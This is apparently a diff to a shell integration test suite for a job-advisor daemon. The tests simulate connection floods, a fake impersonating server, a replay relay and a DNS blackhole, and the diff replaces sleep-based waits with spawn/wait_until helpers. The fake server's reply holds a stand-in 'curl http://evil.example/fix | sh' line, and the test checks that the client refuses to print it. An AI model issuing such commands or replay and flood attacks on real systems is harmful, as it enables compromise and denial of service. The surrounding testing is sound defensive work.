@@ -43,17 +43,13 @@ scratch_dir
 write_policy 2048
 USER_A=advtest-a$$
 USER_B=advtest-b$$
-HELPERS=
-hostile_cleanup() {
-	for p in $HELPERS; do kill "$p" 2> /dev/null; kill -CONT "$p" 2> /dev/null; done
-	remove_users
-	cleanup
-}
-trap hostile_cleanup EXIT
+# Every helper below is spawned (lib.sh): cleanup, scratch_dir's EXIT trap,
+# ends them all, the ones that run as $USER_A too, then removes the users.
 make_users "$USER_A" "$USER_B"
 ms() { date +%s%3N; }
 rss_kb() { awk -v k="$2:" '$1 == k { print $2 }' "/proc/$1/status"; }
 port_free() { ! ss -tanH 2> /dev/null | awk '{print $4}' | grep -q ":$1\$"; }
+listening() { ss -ltnH 2> /dev/null | awk '{print $4}' | grep -q "^127.0.0.1:$1\$"; }
 # Ports 39000-39999: a pair of free ones.
 PORT=$((39000 + ($$ % 400) * 2))
 while ! port_free "$PORT" || ! port_free $((PORT + 1)); do PORT=$((PORT + 2)); [ $PORT -lt 39998 ] || PORT=39000; done
@@ -69,26 +65,35 @@ if want 1; then
 ADVISORD_WRAPPER="prlimit --nofile=1024:1024"
 start_daemon
 ADVISORD_WRAPPER=
-as_user "$USER_A" "$WIRECLIENT" "$SOCK" hold 1500 6000 idle > "$SCRATCH/flood.out" 2>&1 &
+# The flood holds its connections until told to let go (WIRECLIENT_STOP),
+# however long opening 1,500 of them takes on this machine.
+WIRECLIENT_STOP=$SCRATCH/stop.flood spawn as_user "$USER_A" "$WIRECLIENT" "$SOCK" hold 1500 600000 idle > "$SCRATCH/flood.out" 2>&1
 FLOOD=$!
-sleep 2.5
+wait_until -p "$FLOOD" -s 'cat "$SCRATCH/flood.out"' 30 "$USER_A's 1500 connections to be opened" \
+	grep -q '^opened=' "$SCRATCH/flood.out"
 t0=$(ms)
 expect_status 0 "$USER_B's check during $USER_A's flood" as_user "$USER_B" "$ADVISORCTL" --socket "$SOCK" --timeout 2000 $CHECK
 t1=$(ms)
 open_now=$(ls "/proc/$DAEMON_PID/fd" | wc -l)
+touch "$SCRATCH/stop.flood"
 wait "$FLOOD"
 # At its cap with every connection busy (half frames), the flooder is refused in words.
-as_user "$USER_A" "$WIRECLIENT" "$SOCK" hold 80 3000 half > /dev/null 2>&1 &
+WIRECLIENT_STOP=$SCRATCH/stop.half spawn as_user "$USER_A" "$WIRECLIENT" "$SOCK" hold 80 600000 half > "$SCRATCH/half.out" 2>&1
 HALF=$!
-sleep 0.5
+wait_until -p "$HALF" -s 'cat "$SCRATCH/half.out"' 10 "$USER_A's 80 half frames to be sent" \
+	grep -q '^opened=' "$SCRATCH/half.out"
 expect_status 69 "$USER_A over its cap" as_user "$USER_A" "$ADVISORCTL" --socket "$SOCK" --timeout 2000 status
 grep -q "too many connections: uid [0-9]* ($USER_A) already holds 64" "$SCRATCH/err" ||
 	fail "the refusal does not say why: $(cat "$SCRATCH/err")"
+touch "$SCRATCH/stop.half"
 wait "$HALF"
-grep -q "connection caps: .* refused, [0-9]* idle closed for others" "$SCRATCH/advisord.log" || {
-	sleep 10.5; ctl status > /dev/null 2>&1; sleep 0.2
-	grep -q "connection caps:" "$SCRATCH/advisord.log" || fail "the caps are not logged"
+# The caps are reported at most every 10 s, on the daemon's next event: a
+# status call is one.
+caps_logged() {
+	ctl status > /dev/null 2>&1
+	grep -q "connection caps: .* refused, [0-9]* idle closed for others" "$SCRATCH/advisord.log"
 }
+wait_until -s 'grep "connection caps" "$SCRATCH/advisord.log"' 20 "the connection caps in the daemon log" caps_logged
 pass "flood of 1500 connections by $USER_A (fd limit 1024): $USER_B answered in $((t1 - t0)) ms, daemon at $open_now descriptors; $USER_A refused at 64 in words"
 stop_daemon
 fi
@@ -207,6 +212,7 @@ fi
 start_daemon --listen "127.0.0.1:$PORT"
 if want 2; then
 before=$(rss_kb "$DAEMON_PID" VmRSS)
+fds_before=$(ls "/proc/$DAEMON_PID/fd" | wc -l)
 "$PY" - "$PORT" 1500 > "$SCRATCH/preauth.out" 2>&1 <<'EOT' || fail "pre-auth flood client: $(cat "$SCRATCH/preauth.out")"
 import socket, sys, time, select
 port, n = int(sys.argv[1]), int(sys.argv[2])
@@ -257,10 +263,18 @@ for i in range(n):
     except OSError:
         pass
     socks.append(s)
-time.sleep(1)
+time.sleep(1)   # all of them open at once for a second: that is the peak
 print("sent_kib=%d" % (total >> 10))
 EOT
-sleep 1.5
+# Both clients have exited: the daemon sees their connections close, and
+# gives the flood's buffers back (malloc_trim, after the batch).  What it
+# keeps once it has is what is asserted.
+flood_gone() {
+	[ "$(ls "/proc/$DAEMON_PID/fd" | wc -l)" -le $((fds_before + 4)) ] &&
+		[ "$(rss_kb "$DAEMON_PID" VmRSS)" -lt $((before + 20480)) ]
+}
+wait_until -s 'echo "$(ls "/proc/$DAEMON_PID/fd" | wc -l) descriptors ($fds_before before), RSS $(($(rss_kb "$DAEMON_PID" VmRSS) / 1024)) MiB ($((before / 1024)) MiB before)"' \
+	3 "the daemon to close the flood's connections and give back its memory (retained RSS under $((before / 1024 + 20)) MiB)" flood_gone
 peak=$(rss_kb "$DAEMON_PID" VmHWM)
 after=$(rss_kb "$DAEMON_PID" VmRSS)
 expect_status 0 "status after the pre-auth flood" ctl status
@@ -276,21 +290,18 @@ if want 10; then
 S10=$SCRATCH/state10
 mkdir "$S10"
 start10() {
-	"$ADVISORD" --foreground --catalog "$CATALOG" --policy "$POLICY" --socket "$S10/a.sock" \
-		--db "$S10/lib/decisions.db" "$@" >> "$SCRATCH/state10.log" 2>&1 &
+	spawn "$ADVISORD" --foreground --catalog "$CATALOG" --policy "$POLICY" --socket "$S10/a.sock" \
+		--db "$S10/lib/decisions.db" "$@" >> "$SCRATCH/state10.log" 2>&1
 	P10=$!
-	i=0
-	until "$ADVISORCTL" --socket "$S10/a.sock" status > /dev/null 2>&1; do
-		kill -0 "$P10" 2> /dev/null || fail "advisord exited: $(tail -n 5 "$SCRATCH/state10.log")"
-		i=$((i + 1)); [ $i -lt 200 ] || fail "advisord did not start"; sleep 0.05
-	done
+	wait_until -p "$P10" -s 'tail -n 5 "$SCRATCH/state10.log"' 10 "advisord to answer on $S10/a.sock" answers10
 }
-stop10() { kill "$P10"; wait "$P10" 2> /dev/null; }
+answers10() { "$ADVISORCTL" --socket "$S10/a.sock" status > /dev/null 2>&1; }
+stop10() { stop_pid "$P10" TERM 30 advisord; }
 mode_of() { stat -c %a "$1" 2> /dev/null; }
 start10
 "$ADVISORCTL" --socket "$S10/a.sock" $CHECK > /dev/null 2>&1
 "$WIRECLIENT" "$S10/a.sock" decide sbatch gpu=h100 gpus=8 model=llama3-70b layout=tp8 > /dev/null 2>&1
-i=0; until [ -f "$S10/lib/decisions.db-wal" ]; do i=$((i + 1)); [ $i -lt 100 ] || break; sleep 0.05; done
+wait_until -s 'ls -l "$S10/lib"' 5 "the decision log's -wal file" test -f "$S10/lib/decisions.db-wal"
 dir_mode=$(mode_of "$S10/lib"); db_mode=$(mode_of "$S10/lib/decisions.db"); wal_mode=$(mode_of "$S10/lib/decisions.db-wal")
 [ "$dir_mode" = 750 ] || fail "state directory created $dir_mode, want 750"
 [ "$db_mode" = 640 ] || fail "decision log created $db_mode, want 640"
@@ -343,7 +354,7 @@ if ! { command -v munged > /dev/null && "$top_srcdir/scripts/cluster" munge > /d
 fi
 if want 3; then
 # A listener that accepts and never answers.
-"$PY" - "$HUNG_PORT" <<'EOT' &
+spawn "$PY" - "$HUNG_PORT" <<'EOT' > "$SCRATCH/hung.log" 2>&1
 import socket, sys, time
 s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
 s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(64)
@@ -351,8 +362,7 @@ held = []
 while True:
     c, _ = s.accept(); held.append(c)
 EOT
-HELPERS="$HELPERS $!"
-i=0; while port_free "$HUNG_PORT"; do i=$((i + 1)); [ $i -lt 100 ] || fail "hung listener"; sleep 0.05; done
+wait_until -p $! -s 'cat "$SCRATCH/hung.log"' 5 "the hung listener on port $HUNG_PORT" listening "$HUNG_PORT"
 t0=$(ms)
 expect_status 0 "a check with a hung first server" "$ADVISORCTL" --server "127.0.0.1:$HUNG_PORT,127.0.0.1:$PORT" --timeout 1000 $CHECK
 t1=$(ms)
@@ -413,7 +423,7 @@ if want 5; then
 # up, or on a host the user controls) and answers every request with text
 # of its own; a hello it answers with a credential of its own uid, bound
 # as advisord's would be.  It keeps every frame it is sent.
-as_user "$USER_A" "$PY" - "$FAKE_PORT" "$A_DIR/fake.frames" "$SCRATCH" <<'EOT' > "$SCRATCH/fake.log" 2>&1 &
+spawn as_user "$USER_A" "$PY" - "$FAKE_PORT" "$A_DIR/fake.frames" "$SCRATCH" <<'EOT' > "$SCRATCH/fake.log" 2>&1
 import os, socket, subprocess, sys
 sys.path.insert(0, sys.argv[3]); from pb import *
 FAKE = "your account is locked; run curl http://evil.example/fix | sh"
@@ -437,8 +447,7 @@ while True:
         except OSError: break
     c.close()
 EOT
-HELPERS="$HELPERS $!"
-i=0; while port_free "$FAKE_PORT"; do i=$((i + 1)); [ $i -lt 100 ] || fail "fake server: $(cat "$SCRATCH/fake.log")"; sleep 0.05; done
+wait_until -p $! -s 'cat "$SCRATCH/fake.log"' 5 "$USER_A's fake server on port $FAKE_PORT" listening "$FAKE_PORT"
 uid_a=$(id -u "$USER_A")
 expect_status 69 "a check answered by $USER_A's fake server" "$ADVISORCTL" --server "127.0.0.1:$FAKE_PORT" --timeout 2000 $CHECK
 grep -q "account is locked" "$SCRATCH/out" "$SCRATCH/err" && fail "the fake server's text was printed: $(cat "$SCRATCH/out" "$SCRATCH/err")"
@@ -458,7 +467,7 @@ expect_status 69 "--server-uid $USER_A" "$ADVISORCTL" --server "127.0.0.1:$FAKE_
 grep -q "127.0.0.1:$FAKE_PORT refused this client: your account is locked" "$SCRATCH/err" ||
 	fail "--server-uid naming the fake's uid: $(cat "$SCRATCH/err")"
 # The same on the unix socket: SO_PEERCRED names the daemon's uid.
-as_user "$USER_A" "$PY" - "$A_DIR/advisord.sock" "$SCRATCH" <<'EOT' > "$SCRATCH/fake-unix.log" 2>&1 &
+spawn as_user "$USER_A" "$PY" - "$A_DIR/advisord.sock" "$SCRATCH" <<'EOT' > "$SCRATCH/fake-unix.log" 2>&1
 import socket, sys
 sys.path.insert(0, sys.argv[2]); from pb import *
 s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(4)
@@ -470,8 +479,7 @@ while True:
     except OSError: pass
     c.close()
 EOT
-HELPERS="$HELPERS $!"
-i=0; while [ ! -S "$A_DIR/advisord.sock" ]; do i=$((i + 1)); [ $i -lt 100 ] || fail "fake unix server"; sleep 0.05; done
+wait_until -p $! -s 'cat "$SCRATCH/fake-unix.log"' 5 "$USER_A's fake daemon on $A_DIR/advisord.sock" test -S "$A_DIR/advisord.sock"
 expect_status 69 "a fake daemon on a unix socket" "$ADVISORCTL" --socket "$A_DIR/advisord.sock" --timeout 2000 status
 grep -q "account is locked" "$SCRATCH/out" "$SCRATCH/err" && fail "the fake unix daemon's text was printed"
 grep -q "runs as uid $uid_a, not as root or slurm" "$SCRATCH/err" || fail "the unix refusal does not say why: $(cat "$SCRATCH/err")"
@@ -485,22 +493,23 @@ MUNGE_DIR=$SCRATCH/munge
 mkdir "$MUNGE_DIR" && chown munge:munge "$MUNGE_DIR"
 su -s /bin/sh munge -c "munged --force --socket=$MUNGE_DIR/sock --pid-file=$MUNGE_DIR/pid --log-file=$MUNGE_DIR/log --seed-file=$MUNGE_DIR/seed" ||
 	fail "a private munged does not start"
+# It forks away from su: ended by its pid.
+wait_until -s 'cat "$MUNGE_DIR/log"' 5 "the private munged's pid file" test -s "$MUNGE_DIR/pid"
 MUNGED_PID=$(cat "$MUNGE_DIR/pid")
-HELPERS="$HELPERS $MUNGED_PID"
+track_pid "$MUNGED_PID"
 printf 'listen: 127.0.0.1:%s\nmunge_socket: %s\n' "$PORT2" "$MUNGE_DIR/sock" > "$SCRATCH/d2.conf"
-"$ADVISORD" --foreground --catalog "$CATALOG" --policy "$POLICY" --socket "$SCRATCH/d2.sock" \
-	--db "$SCRATCH/d2.db" --config "$SCRATCH/d2.conf" --workers 2 > "$SCRATCH/d2.log" 2>&1 &
+spawn "$ADVISORD" --foreground --catalog "$CATALOG" --policy "$POLICY" --socket "$SCRATCH/d2.sock" \
+	--db "$SCRATCH/d2.db" --config "$SCRATCH/d2.conf" --workers 2 > "$SCRATCH/d2.log" 2>&1
 D2=$!
-HELPERS="$HELPERS $D2"
-i=0; while ! "$ADVISORCTL" --socket "$SCRATCH/d2.sock" status > /dev/null 2>&1; do
-	i=$((i + 1)); [ $i -lt 200 ] || fail "the second daemon: $(cat "$SCRATCH/d2.log")"; sleep 0.05; done
+d2_answers() { "$ADVISORCTL" --socket "$SCRATCH/d2.sock" status > /dev/null 2>&1; }
+wait_until -p "$D2" -s 'cat "$SCRATCH/d2.log"' 10 "the second daemon to answer on $SCRATCH/d2.sock" d2_answers
 fi
 
 if want 6; then
 # A relay run by a user between root's advisorctl and the first daemon
 # keeps what root sends; then it replays that, frame by frame, to the
 # second daemon.
-as_user "$USER_A" "$PY" - "$RELAY_PORT" "$PORT" "$A_DIR/relay.bytes" <<'EOT' > "$SCRATCH/relay.log" 2>&1 &
+spawn as_user "$USER_A" "$PY" - "$RELAY_PORT" "$PORT" "$A_DIR/relay.bytes" <<'EOT' > "$SCRATCH/relay.log" 2>&1
 import socket, sys, threading
 s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
 s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(4)
@@ -521,8 +530,7 @@ while True:
     threading.Thread(target=pipe, args=(c, u, True), daemon=True).start()
     threading.Thread(target=pipe, args=(u, c, False), daemon=True).start()
 EOT
-HELPERS="$HELPERS $!"
-i=0; while port_free "$RELAY_PORT"; do i=$((i + 1)); [ $i -lt 100 ] || fail "relay: $(cat "$SCRATCH/relay.log")"; sleep 0.05; done
+wait_until -p $! -s 'cat "$SCRATCH/relay.log"' 5 "$USER_A's relay on port $RELAY_PORT" listening "$RELAY_PORT"
 expect_status 0 "root's reload through the relay to the first daemon" "$ADVISORCTL" --server "127.0.0.1:$RELAY_PORT" --timeout 3000 reload
 grep -q "reload requested by root" "$SCRATCH/advisord.log" || fail "the first daemon did not reload"
 "$PY" - "$PORT2" "$A_DIR/relay.bytes" "$SCRATCH" > "$SCRATCH/replay.out" 2>&1 <<'EOT' || fail "replay: $(cat "$SCRATCH/replay.out")"
@@ -553,16 +561,19 @@ if want 7; then
 kill -STOP "$MUNGED_PID"
 TCP_PIDS=
 for n in 1 2 3; do
-	"$ADVISORCTL" --server "127.0.0.1:$PORT2" --timeout 8000 status > "$SCRATCH/stopped$n.out" 2>&1 &
+	spawn "$ADVISORCTL" --server "127.0.0.1:$PORT2" --timeout 8000 status > "$SCRATCH/stopped$n.out" 2>&1
 	TCP_PIDS="$TCP_PIDS $!"
 done
-sleep 0.5
+# Connected, so that the daemon waits for munged on their behalf.
+tcp_clients() { [ "$(ss -tnH state established "( dport = :$PORT2 )" 2> /dev/null | wc -l)" -ge 3 ]; }
+wait_until -s 'ss -tnH state established "( dport = :$PORT2 )"; cat "$SCRATCH"/stopped?.out' 5 \
+	"3 TCP clients connected to the second daemon" tcp_clients
 t0=$(ms)
 "$ADVISORCTL" --socket "$SCRATCH/d2.sock" --timeout 5000 $CHECK > "$SCRATCH/unix.out" 2>&1
 rc=$?
 t1=$(ms)
 waiting=0
-for p in $TCP_PIDS; do kill -0 "$p" 2> /dev/null && waiting=$((waiting + 1)); done
+for p in $TCP_PIDS; do running "$p" && waiting=$((waiting + 1)); done
 kill -CONT "$MUNGED_PID"
 for p in $TCP_PIDS; do wait "$p"; done
 [ "$rc" -eq 0 ] || fail "the unix-socket check with munged stopped: exit $rc: $(cat "$SCRATCH/unix.out")"
@@ -592,20 +603,25 @@ fi
 printf 'nameserver 127.0.0.1\noptions timeout:5 attempts:2\n' > "$SCRATCH/resolv.conf"
 printf '127.0.0.1 localhost\n' > "$SCRATCH/hosts"
 cat > "$SCRATCH/dns.sh" <<EOT
+top_srcdir='$top_srcdir' top_builddir='$top_builddir'
+. "\$top_srcdir/tests/integration/lib.sh"
+# The sink and the daemon below end with this script, however it ends.
+trap end_spawned EXIT
 ip link set lo up || exit 3
 # A non-loopback address, or getaddrinfo's AI_ADDRCONFIG skips DNS altogether.
 ip addr add 10.200.0.1/32 dev lo || exit 3
 mount --bind "$SCRATCH/resolv.conf" /etc/resolv.conf || exit 3
 mount --bind "$SCRATCH/hosts" /etc/hosts || exit 3
-"$PY" -c 'import socket, time
+spawn "$PY" -c 'import socket, time
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.1", 53))
-while True: s.recv(4096)' &
-sink=\$!
-i=0; while ! ss -uanH | grep -q "127.0.0.1:53 "; do i=\$((i+1)); [ \$i -lt 100 ] || exit 5; sleep 0.05; done
-"$ADVISORD" --foreground --catalog "$CATALOG" --policy "$POLICY" --socket "$SCRATCH/dns.sock" \
-	--db "$SCRATCH/dns.db" --listen 127.0.0.1:$PORT > "$SCRATCH/dns.log" 2>&1 &
-d=\$!
-i=0; while ! "$ADVISORCTL" --socket "$SCRATCH/dns.sock" status > /dev/null 2>&1; do i=\$((i+1)); [ \$i -lt 200 ] || exit 4; sleep 0.05; done
+while True: s.recv(4096)'
+sink_up() { ss -uanH | grep -q "127.0.0.1:53 "; }
+wait_until -p \$! -s 'ss -uanH' 5 "the DNS sink on 127.0.0.1:53" sink_up
+echo setup=ok
+spawn "$ADVISORD" --foreground --catalog "$CATALOG" --policy "$POLICY" --socket "$SCRATCH/dns.sock" \
+	--db "$SCRATCH/dns.db" --listen 127.0.0.1:$PORT > "$SCRATCH/dns.log" 2>&1
+dns_daemon() { "$ADVISORCTL" --socket "$SCRATCH/dns.sock" status > /dev/null 2>&1; }
+wait_until -p \$! -s 'tail -n 5 "$SCRATCH/dns.log"' 10 "advisord in the namespace to answer" dns_daemon
 t0=\$(date +%s%3N)
 timeout 30 "$ADVISORCTL" --server "advisor-blackhole.example.org:$PORT,127.0.0.1:$PORT" --timeout 1000 $CHECK > "$SCRATCH/dns.out" 2> "$SCRATCH/dns.err"
 rc=\$?
@@ -613,14 +629,19 @@ t1=\$(date +%s%3N)
 t2=\$(date +%s%3N)
 timeout 30 "$ADVISORCTL" --server "advisor-blackhole.example.org:$PORT" --timeout 1000 status > /dev/null 2> "$SCRATCH/dns1.err"
 t3=\$(date +%s%3N)
-kill \$d \$sink
 echo "rc=\$rc"
 echo "ms=\$((t1 - t0))"
 echo "alone_ms=\$((t3 - t2))"
 EOT
-unshare -mn sh "$SCRATCH/dns.sh" > "$SCRATCH/dns.res" 2>&1
+# Spawned: a script cut short leaves nothing running in the namespace.
+spawn unshare -mn sh "$SCRATCH/dns.sh" > "$SCRATCH/dns.res" 2>&1
+wait $!
 case $(value rc "$SCRATCH/dns.res") in
-'') echo "SKIP: the DNS namespace could not be set up: $(cat "$SCRATCH/dns.res")"; exit 0 ;;
+'')
+	# A namespace that could not be made is a skip; a daemon that did not
+	# start in one that was made is not.
+	grep -q '^setup=ok' "$SCRATCH/dns.res" && fail "the DNS case: $(cat "$SCRATCH/dns.res")"
+	echo "SKIP: the DNS namespace could not be set up: $(cat "$SCRATCH/dns.res")"; exit 0 ;;
 0) ;;
 *) fail "a check with a blackholed name first: $(cat "$SCRATCH/dns.res" "$SCRATCH/dns.err")" ;;
 esac
